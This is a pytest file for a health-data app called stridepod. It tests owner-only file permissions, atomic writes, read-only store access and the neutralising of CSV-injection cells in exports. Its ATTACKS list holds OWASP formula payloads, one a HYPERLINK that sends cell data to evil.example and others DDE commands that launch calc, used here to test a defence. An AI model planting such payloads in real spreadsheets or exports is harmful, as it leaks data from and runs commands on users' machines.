"""Files that hold health data: owner-only folders and files (whatever the umask),
stridepod's own data folder tightened when an older version left it open, writes that
replace a file whole, and exported CSV cells a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from faults_rig import DATA, copy_store
from stridepod.privatefiles import FORMULA_STARTS, private_dir, private_file, spreadsheet_safe
from stridepod.store.database import Store


def modes(folder: Path) -> dict[str, int]:
    return {p.relative_to(folder).as_posix(): stat.S_IMODE(p.stat().st_mode)
            for p in [folder, *sorted(folder.rglob("*"))]}


@pytest.fixture
def open_umask():
    old = os.umask(0o022)  # a typical desktop umask: new files 0644, folders 0755
    yield
    os.umask(old)


def test_report_and_export_are_owner_only(stridepod_cli, tmp_path, open_umask):
    stridepod_cli("import", DATA / "demo_wellness.csv", DATA / "demo_sessions.csv")
    assert stridepod_cli("export", tmp_path / "new" / "export").exit_code == 0
    assert stridepod_cli("report", "--date", "2022-01-20").exit_code == 0
    found = modes(tmp_path)
    assert {"stridepod.db", "new/export/runs.csv", "report/report.html", "report/gait.png"
            } <= found.keys()
    wrong = {name: oct(mode) for name, mode in found.items()
             if name != "."  # pytest's
             and mode != (0o700 if (tmp_path / name).is_dir() else 0o600)}
    assert wrong == {}, wrong


def test_stridepods_own_data_folder_is_tightened(tmp_path, monkeypatch, open_umask):
    data_home = tmp_path / "xdg"
    demo = data_home / "stridepod" / "demo"
    demo.mkdir(parents=True)  # as an older version left it: 0755
    monkeypatch.setenv("XDG_DATA_HOME", str(data_home))
    private_dir(demo / "inputs")
    assert modes(data_home) == {".": 0o755, "stridepod": 0o700, "stridepod/demo": 0o700,
                                "stridepod/demo/inputs": 0o700}


def test_a_folder_the_user_chose_keeps_its_mode(stridepod_cli, tmp_path, open_umask):
    mine = tmp_path / "Desktop"
    mine.mkdir(mode=0o755)
    stridepod_cli("import", DATA / "demo_sessions.csv")
    assert stridepod_cli("export", mine).exit_code == 0
    assert stat.S_IMODE(mine.stat().st_mode) == 0o755
    assert {stat.S_IMODE(p.stat().st_mode) for p in mine.iterdir()} == {0o600}


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "runs.csv"
    target.write_text("the earlier export\n")
    with pytest.raises(RuntimeError), private_file(target) as fh:
        fh.write("half of the new")
        raise RuntimeError("the disk went away")
    assert target.read_text() == "the earlier export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["runs.csv"]


# OWASP "CSV Injection": cells a spreadsheet reads as formulas or DDE commands
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_exported_cells_never_open_as_formulas(stridepod_cli, tmp_path, write_file):
    plan = write_file("plan.csv", "date,kind,duration_min,intensity\n" + "".join(
        f"2026-11-{10 + i},easy,40,\"{a.replace(chr(34), chr(34) * 2)}\"\n"
        for i, a in enumerate(ATTACKS)))
    assert stridepod_cli("import", plan).exit_code == 0
    assert stridepod_cli("export", tmp_path / "out").exit_code == 0
    with open(tmp_path / "out" / "planned_sessions.csv", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    with open(tmp_path / "out" / "planned_sessions.csv", newline="") as fh:
        stored = [row["intensity"] for row in csv.DictReader(fh)]
    assert stored == ["'" + a.strip() for a in ATTACKS]  # the importer strips each cell
    assert spreadsheet_safe(-3.5) == -3.5 and spreadsheet_safe("-") == "'-"
    assert spreadsheet_safe("2026-11-10") == "2026-11-10"


def test_read_commands_never_create_or_touch_a_store(stridepod_cli, tmp_path, real_store):
    missing = tmp_path / "nothing-here" / "stridepod.db"
    refused = stridepod_cli("--db", missing, "today")
    assert refused.exit_code == 2 and "no stridepod database at" in refused.stderr
    assert not missing.parent.exists()
    db = copy_store(real_store, tmp_path / "store")
    before = (db.read_bytes(), sorted(p.name for p in db.parent.iterdir()))
    for args in (["today"], ["plan"], ["export", tmp_path / "x"], ["report", "-o", tmp_path / "r"]):
        assert stridepod_cli("--db", db, *args).exit_code == 0
    assert (db.read_bytes(), sorted(p.name for p in db.parent.iterdir())) == before
    with Store.open(db, read_only=True) as store:
        assert store.read_only and store.pod_record_count() > 0
